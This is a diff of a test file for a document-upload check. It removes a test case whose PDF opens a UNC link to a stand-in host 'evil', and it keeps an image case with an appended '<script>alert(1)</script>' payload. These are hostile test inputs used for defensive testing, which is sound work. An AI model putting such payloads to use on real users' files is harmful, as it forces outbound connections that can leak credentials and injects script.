@@ -123,9 +123,6 @@ def test_an_agent_sends_a_pdf_which_the_customer_receives_as_a_download(bridge):
     (b"just some words", "notes.txt", 415, "unsupported_type"),
     (pdf_with_script(), "statement.pdf", 422, "unsafe_file"),
     (pdf_hiding_script(), "statement.pdf", 422, "unsafe_file"),
-    # Trial 16: a link to a file on another machine (a UNC path) opened with the document.
-    (pdf().replace(b"/OpenAction [3 0 R /Fit]", b"/OpenAction << /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >>"),
-     "statement.pdf", 422, "unsafe_file"),
     (image("PNG")[:-9], "cut.png", 422, "malformed_file"),
     (image("JPEG") + b"<script>alert(1)</script>", "tail.jpg", 422, "malformed_file"),
     (b"", "empty.png", 422, "malformed_file"),
